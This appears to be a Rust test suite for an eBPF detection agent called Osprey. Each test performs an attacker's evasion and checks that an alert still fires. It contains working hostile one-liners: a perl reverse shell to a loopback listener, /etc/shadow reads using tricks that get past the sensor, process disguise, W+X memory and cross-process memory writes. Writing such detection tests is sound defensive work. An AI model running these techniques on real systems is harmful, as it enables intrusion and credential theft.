//! Evasions an attacker who knows Osprey would try (issue #15), each done for real with the
//! agent running the default rules, on the host or in a container, and the alert it must
//! still raise. One test per evasion. Root, real eBPF (like every kernel_* and rules_* test).

mod rules_support;
mod support;

use std::time::Duration;

use rules_support::*;
use serde_json::Value;

/// A copy of perl under a name no rule knows (not an interpreter, not netcat).
fn renamed_perl(d: &TempDir, name: &str) -> String {
    let p = d.join(name);
    std::fs::copy("/usr/bin/perl", &p).unwrap();
    p.to_str().unwrap().to_string()
}

/// `podman run` of the test image with the host's perl (and its libraries) mounted read-only.
fn run_with_perl(args: &[&str], script: &str) -> Ran {
    let mut all = vec![
        "-v",
        "/usr:/usr:ro",
        "-v",
        "/lib:/lib:ro",
        "-v",
        "/lib64:/lib64:ro",
        "-v",
        "/etc/perl:/etc/perl:ro",
    ];
    all.extend_from_slice(args);
    run(&all, script)
}

#[test]
fn evasion_reverse_shell_from_a_renamed_interpreter() {
    // perl renamed "updater": not an interpreter by name, not netcat. It connects out and puts
    // the socket on stdin, stdout and stderr; the fd table knows fd 3 is a TCP socket.
    let d = TempDir::new("revshell");
    let perl = renamed_perl(&d, "updater");
    let mut agent = agent();
    let port = loopback_listener();
    bash(&format!(
        r#"timeout 5 {perl} -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0);
        connect(S, sockaddr_in({port}, inet_aton("127.0.0.1"))) or die; open(STDIN, "<&S");
        open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-c", "exit 0");' osprey-evasion"#
    ));
    let a = alert(&mut agent, "Reverse shell", |v| {
        field(v, "proc.name") == "updater" && field(v, "evt.type") != "connect"
    });
    check(
        &a,
        "Warning",
        &["T1059.004"],
        &[("fd.type", "ipv4"), ("fd.l4proto", "tcp")],
    );
    // The server's end (the local one was never bound, so the table has the remote only).
    assert_eq!(field(&a, "fd.name"), format!("127.0.0.1:{port}"), "{a}");
}

#[test]
fn evasion_pipe_onto_stdout_is_not_a_reverse_shell() {
    // What `pip install` does: an interpreter one-liner starts children whose stdout is a pipe.
    // The old rule took any descriptor an interpreter one-liner put on stdio for a socket.
    let mut agent = agent();
    for _ in 0..3 {
        bash_ok(
            r#"perl -e 'open(my $fh, "-|", "/bin/echo", "hi") or die; my @l = <$fh>; close $fh' osprey-pipe"#,
        );
    }
    // A real reverse shell right after, so that the agent is known to have judged the pipes.
    let port = loopback_listener();
    bash(&format!(
        r#"timeout 5 perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0);
        connect(S, sockaddr_in({port}, inet_aton("127.0.0.1"))) or die; open(STDOUT, ">&S");' osprey-sock"#
    ));
    alert(&mut agent, "Reverse shell", |v| {
        field(v, "proc.cmdline").ends_with("osprey-sock")
    });
    let seen = agent.collect_for(Duration::from_millis(500));
    let pipes: Vec<_> = seen
        .iter()
        .filter(|v| {
            v["rule"] == "Reverse shell" && field(v, "proc.cmdline").contains("osprey-pipe")
        })
        .collect();
    assert!(pipes.is_empty(), "a pipe was taken for a socket: {pipes:?}");
}

#[test]
fn evasion_openat_relative_to_a_directory_fd() {
    // openat(open("/etc", O_DIRECTORY), "shadow"): the path string is just "shadow".
    let mut agent = agent();
    bash_ok(
        r#"perl -e 'use Fcntl; sysopen(my $d, "/etc", O_RDONLY|O_DIRECTORY) or die;
        my $n = "shadow"; my $fd = syscall(257, fileno($d), $n, 0, 0); die "openat: $!" if $fd < 0;' osprey-dirfd"#,
    );
    let a = alert(&mut agent, "Read sensitive file", |v| {
        field(v, "proc.cmdline").ends_with("osprey-dirfd")
    });
    check(&a, "Warning", &[], &[("fd.name", "/etc/shadow")]);
}

#[test]
fn evasion_syscall_number_with_junk_in_the_upper_half_of_rax() {
    // The kernel runs the call named by eax, the low half of rax (an `int` since Linux 5.13):
    // rax = 1 << 32 | 2 is open. The sensor read the whole register, a number past every table,
    // and the read of /etc/shadow raised nothing.
    let mut agent = agent();
    bash_ok(
        r#"perl -e 'my $p = "/etc/shadow"; my $fd = syscall(4294967298, $p, 0);
        die "open: $!" if $fd < 0;' osprey-highnr"#,
    );
    let a = alert(&mut agent, "Read sensitive file", |v| {
        field(v, "proc.cmdline").ends_with("osprey-highnr")
    });
    check(&a, "Warning", &[], &[("fd.name", "/etc/shadow")]);
}

#[test]
fn evasion_flood_decoys_do_not_hide_the_real_read() {
    let mut agent = agent();
    // On the host: one process reads /etc/gshadow six times (five alerts and a summary), then
    // the real target from the same process. Keyed by (rule, process) it was folded away.
    bash_ok(
        "head -c0 /etc/gshadow /etc/gshadow /etc/gshadow /etc/gshadow /etc/gshadow /etc/gshadow /etc/shadow",
    );
    let real = alert(&mut agent, "Read sensitive file", |v| {
        field(v, "proc.name") == "head" && field(v, "fd.name") == "/etc/shadow"
    });
    assert!(
        real["output_fields"].get("osprey.suppressed").is_none(),
        "{real}"
    );

    // In a container: the decoys from one process, the real read from another. Keyed by
    // (rule, container) the second process's read was folded into the first one's summary.
    let c = run(
        &["--network", "none"],
        "echo 'root:*:1::::::' > /etc/shadow; \
         head -c0 /etc/shadow /etc/shadow /etc/shadow /etc/shadow /etc/shadow /etc/shadow; \
         cat /etc/shadow >/dev/null",
    );
    let a = container_alert(&mut agent, "Read sensitive file", &c, |v| {
        field(v, "proc.name") == "cat"
    });
    check(&a, "Warning", &[], &[("fd.name", "/etc/shadow")]);
    assert!(a["output_fields"].get("osprey.suppressed").is_none(), "{a}");
}

#[test]
fn evasion_long_argv_is_marked_truncated() {
    // A command line longer than what the sensor captures (4 KiB with the path): what the
    // alert shows is its beginning, and it says so.
    let d = TempDir::under(std::path::Path::new("/dev/shm"), "trunc");
    std::fs::copy("/bin/true", d.join("payload")).unwrap();
    let mut agent = agent();
    let padding = "A".repeat(6000);
    bash_ok(&format!(
        "{}/payload {padding} osprey-tail-never-seen",
        d.s()
    ));
    let a = alert(&mut agent, "Execution from /dev/shm", |v| {
        field(v, "proc.name") == "payload"
    });
    let cmdline = field(&a, "proc.cmdline");
    assert!(cmdline.ends_with("...[truncated]"), "{cmdline}");
    assert!(!cmdline.contains("osprey-tail-never-seen"));
}

#[test]
fn evasion_setuid_to_root_denied() {
    // A non-root process asks for root and is refused: the attempt alerts.
    let mut agent = agent();
    bash(
        "setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'syscall(105, 0)' osprey-setuid",
    );
    let a = alert(&mut agent, "Setuid to root denied", |v| {
        field(v, "proc.cmdline").ends_with("osprey-setuid")
    });
    check(
        &a,
        "Notice",
        &["T1548"],
        &[("evt.type", "setuid"), ("user.uid", "65534")],
    );
}

#[test]
fn evasion_kernel_module_load_denied() {
    // A process without CAP_SYS_MODULE tries to load a module: the attempt alerts.
    let mut agent = agent();
    bash(
        "setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=-all \
         perl -e 'open(F, \"</etc/hostname\") or die; my $e = \"\"; syscall(313, fileno(F), $e, 0)' osprey-modload",
    );
    let ours = |v: &Value| field(v, "proc.cmdline").ends_with("osprey-modload");
    if std::path::Path::new("/proc/modules").exists() {
        let a = alert(&mut agent, "Kernel module load denied", ours);
        check(
            &a,
            "Warning",
            &["T1547.006"],
            &[("evt.type", "finit_module")],
        );
        let seen = agent.collect_for(Duration::from_millis(300));
        assert!(
            !seen
                .iter()
                .any(|v| v["rule"] == "Kernel module load" && ours(v)),
            "a refused load is not reported as a loaded module"
        );
    } else {
        // A kernel built without modules answers everyone ENOSYS, not EPERM (this project's
        // machines): the attempt is still reported, by the module-load rule with its result.
        let a = alert(&mut agent, "Kernel module load", ours);
        check(&a, "Critical", &["T1547.006"], &[("evt.res", "ENOSYS")]);
    }
}

#[test]
fn evasion_mount_and_unshare_denied_in_container() {
    // An unprivileged container tries the first steps of an escape and is refused.
    let mut agent = agent();
    let c = run(
        &["--network", "none"],
        "mount -t proc proc /mnt; unshare -m true; true",
    );
    let a = container_alert(&mut agent, "Mount denied", &c, |_| true);
    check(&a, "Notice", &["T1611"], &[("evt.type", "mount")]);
    let a = container_alert(
        &mut agent,
        "Namespace change denied in container",
        &c,
        |_| true,
    );
    check(&a, "Notice", &["T1611"], &[("evt.type", "unshare")]);
}

#[test]
fn evasion_process_renamed_like_a_kernel_thread() {
    let mut agent = agent();
    bash_ok(
        r#"perl -e 'my $n = "kworker/0:7"; syscall(157, 15, $n) == 0 or die "prctl: $!"' osprey-rename"#,
    );
    // Reported by "Process renamed to a system name" (the ATT&CK section's rule for T1036.004).
    let a = alert(&mut agent, "Process renamed to a system name", |v| {
        field(v, "thread.comm") == "kworker/0:7"
    });
    check(
        &a,
        "Warning",
        &["T1036.004"],
        &[("proc.exepath", "/usr/bin/perl")],
    );
}

#[test]
fn evasion_writable_executable_memory_in_container() {
    // Shellcode's way in: memory mapped writable, then made executable as well; or mapped
    // writable and executable at once; or made so with pkey_mprotect (key -1: no key).
    let mut agent = agent();
    let c = run_with_perl(
        &["--network", "none"],
        "/usr/bin/perl -e 'my $a = syscall(9, 0, 4096, 3, 0x22, -1, 0); \
         syscall(10, $a, 4096, 7) == 0 or die \"mprotect: $!\"; \
         syscall(9, 0, 4096, 7, 0x22, -1, 0) > 0 or die \"mmap: $!\"; \
         my $b = syscall(9, 0, 4096, 3, 0x22, -1, 0); \
         syscall(329, $b, 4096, 7, -1) == 0 or die \"pkey_mprotect: $!\"' osprey-wx",
    );
    for call in ["mprotect", "mmap", "pkey_mprotect"] {
        let a = container_alert(
            &mut agent,
            "Memory made writable and executable in container",
            &c,
            |v| field(v, "evt.type") == call,
        );
        check(&a, "Notice", &["T1055"], &[("proc.name", "perl")]);
        assert!(field(&a, "evt.arg.prot").contains("PROT_EXEC"), "{a}");
    }
}

#[test]
fn evasion_other_process_memory_and_descriptors() {
    let mut agent = agent();
    // process_vm_writev: write into a process's memory without ptrace (here its own, the
    // syscall is the same).
    bash_ok(
        r#"perl -e 'my $dst = "x" x 8; my $src = "injected";
        my $l = pack("QQ", unpack("Q", pack("p", $src)), 8);
        my $r = pack("QQ", unpack("Q", pack("p", $dst)), 8);
        syscall(311, $$ + 0, $l, 1, $r, 1, 0) == 8 or die "writev: $!"' osprey-vmwrite"#,
    );
    let a = alert(&mut agent, "Other process memory written", |v| {
        field(v, "proc.cmdline").ends_with("osprey-vmwrite")
    });
    check(&a, "Warning", &["T1055"], &[("evt.res", "SUCCESS")]);

    // pidfd_getfd: take a descriptor out of a process (a file it opened).
    bash_ok(
        r#"perl -e 'open(F, "</etc/hostname") or die; my $p = syscall(434, $$ + 0, 0);
        syscall(438, $p, fileno(F), 0) >= 0 or die "pidfd_getfd: $!"' osprey-getfd"#,
    );
    let a = alert(&mut agent, "Descriptor taken from another process", |v| {
        field(v, "proc.cmdline").ends_with("osprey-getfd")
    });
    check(
        &a,
        "Warning",
        &[],
        &[("fd.name", "/etc/hostname"), ("fd.type", "file")],
    );
}

#[test]
fn evasion_io_uring_ring() {
    // A ring: what it submits never passes through the syscall tracepoints.
    let mut agent = agent();
    bash_ok(
        r#"perl -e 'my $p = "\0" x 120; syscall(425, 8, $p) >= 0 or die "io_uring_setup: $!"' osprey-uring"#,
    );
    let a = alert(
        &mut agent,
        "io_uring ring created by unexpected process",
        |v| field(v, "proc.cmdline").ends_with("osprey-uring"),
    );
    check(&a, "Notice", &["T1562.001"], &[("evt.arg.entries", "8")]);
}
